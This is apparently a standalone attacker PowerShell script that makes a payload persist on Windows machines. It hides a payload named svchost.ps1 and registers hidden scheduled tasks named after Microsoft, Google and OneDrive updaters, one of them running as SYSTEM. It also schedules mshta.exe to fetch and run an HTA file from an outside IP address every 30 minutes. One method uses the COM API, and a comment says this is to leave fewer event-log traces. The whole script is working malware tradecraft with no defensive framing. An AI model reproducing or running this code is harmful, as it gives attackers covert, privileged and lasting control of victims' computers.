$payload = "$env:ProgramData\Microsoft\Crypto\svchost.ps1"

$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File $payload"
$trigger = New-ScheduledTaskTrigger -AtLogOn
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskCore' -Action $action -Trigger $trigger -Settings $settings -RunLevel Highest -Force | Out-Null

# older hosts without the ScheduledTasks module
schtasks.exe /Create /TN "\Microsoft\Windows\WDI\SrvSetup" /TR "powershell -w hidden -ep bypass -f $payload" /SC ONSTART /RU SYSTEM /F

schtasks /create /sc minute /mo 30 /tn "GoogleUpdateTaskMachine" /tr "mshta.exe http://198.51.100.7/t.hta" /f

# and once more through the COM API, which leaves less in the event log
$svc = New-Object -ComObject 'Schedule.Service'
$svc.Connect()
$folder = $svc.GetFolder('\')
$def = $svc.NewTask(0)
$def.Settings.Hidden = $true
$t = $def.Triggers.Create(9)
$t.Enabled = $true
$a = $def.Actions.Create(0)
$a.Path = 'powershell.exe'
$a.Arguments = "-nop -w hidden -File $payload"
$folder.RegisterTaskDefinition('OneDrive Standalone Update', $def, 6, $null, $null, 3) | Out-Null
